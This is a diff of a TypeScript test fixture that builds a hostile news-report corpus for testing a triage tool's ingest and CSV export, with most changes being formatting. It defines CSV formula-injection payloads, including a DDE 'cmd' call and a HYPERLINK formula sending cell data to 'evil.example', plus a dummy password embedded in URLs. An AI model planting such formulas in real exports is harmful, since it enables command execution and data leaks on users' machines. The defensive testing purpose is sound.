@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { tempDir, triage } from './harness.ts';
 
 /** Outlet names (sidecar `outlet`, stored as given) that start like a formula. */
-export const HOSTILE_OUTLETS = ['=cmd|\' /C calc\'!A0', '+1+cmd|x', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+export const HOSTILE_OUTLETS = ["=cmd|' /C calc'!A0", '+1+cmd|x', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
 export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 export const SECRET = 's3cr3t-pw';
 
@@ -16,7 +16,11 @@ rebuilt. The hospital said the attackers demanded $2 million in bitcoin and that
 Ambulances were diverted to neighbouring hospitals for three days. The hospital said the personal data of about
 48,000 patients may have been copied before the files were encrypted.`;
 
-export interface HostileStore { root: string; corpus: string; db: string }
+export interface HostileStore {
+  root: string;
+  corpus: string;
+  db: string;
+}
 
 /** Writes the corpus under a fresh temp root and ingests it (and analyses it) into ROOT/store.duckdb. */
 export function hostileStore(tag: string): HostileStore {
@@ -27,9 +31,13 @@ export function hostileStore(tag: string): HostileStore {
     const name = `report-${k}`;
     const title = k === 0 ? HOSTILE_TITLE : `Report ${k} on the Riverside Valley Hospital attack`;
     writeFileSync(join(corpus, `${name}.txt`), `Published: 2023-03-1${k}\nTitle: ${title}\n\n${BODY}\n`);
-    writeFileSync(join(corpus, `${name}.meta.json`), JSON.stringify({
-      outlet, url: `https://reporter:${SECRET}@news${k}.example/2023/03/riverside-${k}`,
-    }));
+    writeFileSync(
+      join(corpus, `${name}.meta.json`),
+      JSON.stringify({
+        outlet,
+        url: `https://reporter:${SECRET}@news${k}.example/2023/03/riverside-${k}`,
+      }),
+    );
   });
   const db = join(root, 'store.duckdb');
   const r = triage(['--db', db, 'ingest', '--dir', corpus, '--workers', '0']);
@@ -46,12 +54,25 @@ export function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') { row.push(cell); cell = ''; }
-    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
-    else cell += c;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += c;
   }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
+  if (cell !== '' || row.length) {
+    row.push(cell);
+    rows.push(row);
+  }
   return rows;
 }
